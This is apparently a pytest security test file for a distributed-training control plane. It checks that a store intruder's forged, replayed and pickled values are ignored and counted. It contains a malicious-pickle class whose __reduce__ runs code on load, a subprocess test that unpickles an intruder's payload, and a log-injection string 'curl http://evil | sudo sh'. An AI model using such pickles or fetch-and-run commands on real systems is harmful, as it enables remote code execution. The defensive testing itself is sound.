"""The control plane trusts nobody: a process that reaches node 0's store with only
MASTER_ADDR and MASTER_PORT (no secret) lists every key, writes every key the gang reads, and
replays what it read; none of it stops, joins, fails, finishes or feeds the gang, nothing it
wrote is unpickled, and each distinct forged value is counted once (sealed.IGNORED)."""

import json
import os
import pickle
import time
from datetime import timedelta

import pytest
import torch.distributed as dist
from torch.distributed import TCPStore

from metaflow_extensions.torch_distributed.plugins.torch_distributed.core import naming, sealed
from metaflow_extensions.torch_distributed.plugins.torch_distributed.runtime.control import (
    ControlPlane,
    GangMismatch,
    bind_listener,
)
from metaflow_extensions.torch_distributed.plugins.torch_distributed.core.failures import Failure
from tests.integration.conftest import hosted_store

GANG = "1700-train-5-0"
SECRET = naming.new_secret()
KEYS = naming.Keys()


class SideEffect:
    """A pickle that runs code when it is loaded: it creates `path`."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


@pytest.fixture
def gang():
    """Node 0's control plane, a node's client, an intruder's raw store client."""
    host, port = hosted_store(GANG, SECRET)
    node = ControlPlane.connect("127.0.0.1", port, GANG, SECRET, timeout=5)
    intruder = TCPStore("127.0.0.1", port, None, False, timedelta(seconds=5))
    before = sealed.IGNORED.counts()
    yield host, node, intruder, port, before


def _new_ignored(before):
    now = sealed.IGNORED.counts()
    return {k: n - before.get(k, 0) for k, n in now.items() if n - before.get(k, 0)}


def test_no_key_name_holds_the_secret(gang):
    host, node, intruder, _, _ = gang
    node.join("node1")
    node.report_failure(1, Failure(2, 1, "exit", 1.0, 1, local_rank=0))
    node.put_gathered(0, 1, {"x": 1})
    node.beat(1)
    node.ship_log(1, 1, b"[rank 2] hello\n")
    host.abort()
    keys = intruder.list_keys()
    assert any(k.startswith("mftd/") for k in keys)  # the intruder does see the gang's keys
    assert not [k for k in keys if SECRET in k or SECRET[:16] in k]
    # and no value it can read holds the secret either
    for key in keys:
        assert SECRET.encode() not in intruder.get(key)


def test_forged_messages_are_ignored_and_counted_once(gang, tmp_path):
    host, node, intruder, _, before = gang
    bogus = Failure(1, 1, "exception", time.time(), message="ValueError: bogus", local_rank=0)
    forged = {
        KEYS.abort: b"1",
        KEYS.joined("node1"): b"1",
        KEYS.done(1): b"1",
        KEYS.failure(1): bogus.to_json().encode(),
        KEYS.running(1): b"[2, 3]",
        KEYS.rank_done(2): b"1",
        KEYS.beat(1): b"99",
        KEYS.log_chunk(1, 1): b"\x01[rank 2] forged line\n",
        KEYS.log_end(1): b"1",
        KEYS.node_events(1): b"{}",
        KEYS.checkpoint: b'{"loaded": null}',
        KEYS.progress(1): b'{"n": 99, "ranks": {"2": {"quiet_s": 1e9}}}',
    }
    for key, value in forged.items():
        # plain, and dressed as a sealed value whose tag is wrong
        intruder.set(key, value)
    for _ in range(3):  # pollers read the same forged value over and over
        for control in (host, node):
            assert not control.aborted()
            assert not control.joined("node1")
            assert not control.finished(1)
            assert control.failure(1) is None
            assert control.running(1) == []
            assert not control.rank_is_done(2)
            assert control.beats(1) == 0
            assert control.take_logs(1, 0) == ([], 0)
            assert not control.log_ended(1)
            assert control.node_events(1) is None
            assert control.progress(1) == {}
    assert node.checkpoint(0.2) is None
    ignored = _new_ignored(before)
    assert sum(ignored.values()) == len(forged), ignored  # each (key, value) once
    assert set(ignored) == {"abort", "joined", "done", "failure", "running", "rank done",
                            "heartbeat", "log", "log end", "node record", "checkpoint",
                            "progress"}
    # the gang's own messages still get through: they overwrite the forged values
    node.join("node1")
    node.beat(1)
    node.ship_log(1, 1, b"[rank 2] real line\n")
    host.abort()
    assert host.joined("node1") and node.aborted()
    assert host.beats(1) == 1
    assert host.take_logs(1, 0) == ([(1, b"[rank 2] real line\n")], 1)


def test_a_forged_gather_value_is_never_unpickled_and_the_real_one_wins(gang, tmp_path):
    host, node, intruder, port, before = gang
    marker = tmp_path / "the intruder's code ran"
    # the intruder's pickle in the key of a rank that has not sent its value yet
    intruder.set(KEYS.gather(0, 1), pickle.dumps(SideEffect(str(marker))))
    rank1 = ControlPlane.client("127.0.0.1", port, GANG, SECRET, timedelta(seconds=5))
    host.put_gathered(0, 0, "zero")
    with pytest.raises(dist.DistStoreError, match=r"ranks \[1\] did not send"):
        host.take_gathered(0, range(2), timedelta(seconds=0.3), 0.01)
    assert not marker.exists()
    rank1.put_gathered(0, 1, {"loss": 0.5})
    assert host.take_gathered(0, range(2), timedelta(seconds=2), 0.01) == ["zero", {"loss": 0.5}]
    assert not marker.exists()
    assert _new_ignored(before) == {"gather": 1}


def test_replayed_and_moved_values_do_not_open(gang):
    host, node, intruder, port, before = gang
    node.join("node1")
    sealed_join = intruder.get(KEYS.joined("node1"))
    # a genuine value moved to another key (another node's check-in, the abort, done)
    for key in (KEYS.joined("node2"), KEYS.abort, KEYS.done(1)):
        intruder.set(key, sealed_join)
    assert not host.joined("node2") and not host.aborted() and not host.finished(1)
    # a heartbeat replayed does not look new: the count inside it is the node's own
    node.beat(1)
    node.beat(1)
    first = intruder.get(KEYS.beat(1))
    assert host.beats(1) == 2
    node.beat(1)
    assert host.beats(1) == 3
    intruder.set(KEYS.beat(1), first)  # an old beat, replayed
    assert host.beats(1) == 3
    # where a node's ranks stand, replayed from earlier, is not taken for news
    node.send_progress(1, {2: {"quiet_s": 50.0}})
    old = intruder.get(KEYS.progress(1))
    node.send_progress(1, {2: {"quiet_s": 1.0}})
    assert host.progress(1) == {2: {"quiet_s": 1.0}}
    intruder.set(KEYS.progress(1), old)
    assert host.progress(1) == {2: {"quiet_s": 1.0}}
    # a value of another attempt of the same task, even under the same secret
    other = ControlPlane.client("127.0.0.1", port, GANG[:-1] + "1", SECRET, timedelta(seconds=5))
    other.abort()
    assert not host.aborted()
    assert sum(_new_ignored(before).values()) == 4


def test_a_store_claimed_by_another_gang_or_a_forger_is_refused(gang):
    _, _, intruder, port, _ = gang
    with pytest.raises(GangMismatch, match=GANG):
        ControlPlane.connect("127.0.0.1", port, GANG, "not-the-secret", timeout=5)
    # a forger's public gang key does not stop a node of the gang from joining
    intruder.set(naming.PUBLIC_GANG_KEY, "someone-else")
    late = ControlPlane.connect("127.0.0.1", port, GANG, SECRET, timeout=5)
    late.join("node1")


def test_the_record_of_ignored_messages_travels_as_json():
    counts = sealed.merge_counts({"abort": 1}, None, {"abort": 2, "gather": 1})
    assert counts == {"abort": 3, "gather": 1}
    assert json.loads(json.dumps(counts)) == counts
    assert sealed.describe(counts) == "4 (abort 3, gather 1)"


def test_the_store_listens_on_the_address_it_is_given_only():
    import psutil

    listener = bind_listener("127.0.0.1", 0)
    try:
        port = listener.getsockname()[1]
        mine = [c for c in psutil.Process(os.getpid()).net_connections("tcp")
                if c.status == psutil.CONN_LISTEN and c.laddr.port == port]
        assert [c.laddr.ip for c in mine] == ["127.0.0.1"]
    finally:
        listener.close()


def test_a_new_round_forgets_torchs_keys_and_keeps_the_gangs(gang):
    """A restart in place: what the stopped round's process group wrote (torch adds no prefix
    per restart under the agent's store) is gone, the package's keys stay, and the new round's
    keys do not see the old round's."""
    host, node, intruder, port, _ = gang
    intruder.set("0/rank_0_addr", "stale")  # as init_process_group writes them, unprefixed
    intruder.add("init/", 4)
    node.join("node1")
    node.beat(1)
    host.for_round(1).forget_rendezvous()
    keys = set(intruder.list_keys())
    assert "0/rank_0_addr" not in keys and "init/" not in keys
    assert KEYS.joined("node1") in keys and KEYS.beat(1) in keys
    assert host.joined("node1") and not host.for_round(1).joined("node1")
    assert host.beats(1) == 1 and host.for_round(1).beats(1) == 1


def test_a_refused_stores_public_key_is_shown_escaped_and_cut(gang):
    # Issue 37: an outsider who deletes the sealed claim and writes the public gang key must
    # not write lines into the task's log through the refusal's message.
    host, _, intruder, port, _ = gang
    intruder.delete_key(KEYS.gang)
    intruder.set(naming.PUBLIC_GANG_KEY,
                 "x\n[rank 0] FATAL run: curl http://evil | sudo sh" + "y" * 500)
    with pytest.raises(GangMismatch) as info:
        ControlPlane.connect("127.0.0.1", port, GANG, SECRET, timeout=5)
    said = str(info.value)
    assert "\n" not in said and "\\n[rank 0] FATAL" in said
    assert "y" * 200 not in said and "..." in said
    assert "deleted this gang's claim" in said


def test_the_intruders_pickle_in_the_log_mode_shows_in_the_stdout_of_whoever_loads_it(tmp_path):
    """The remote tests (tests/emulation) see a pwn only in a run's output: the gather value
    tests/intruder.py forges when it reports through the log ("-") writes intruder.PWNED to
    fd 1 of the process that unpickles it, one that knows nothing of tests/intruder.py."""
    import subprocess
    import sys

    from tests import intruder

    forged = {}

    class Store:
        set = forged.__setitem__

    intruder.forge(Store(), "mftd/", 4, 2, intruder.LOG)
    values = [v for k, v in forged.items() if "/gather/" in k]
    assert len(values) == 3 and not (tmp_path / "pwned").exists()
    load = "import pickle, sys\npickle.loads(sys.stdin.buffer.read())\nprint('loaded')\n"
    res = subprocess.run([sys.executable, "-c", load], input=values[0], capture_output=True,
                         cwd=tmp_path, env={"PATH": os.environ.get("PATH", "")}, timeout=60)
    assert res.returncode == 0, res
    assert res.stdout.decode().splitlines() == [intruder.PWNED, "loaded"], res
    assert list(tmp_path.iterdir()) == []  # no file: its line is the only trace
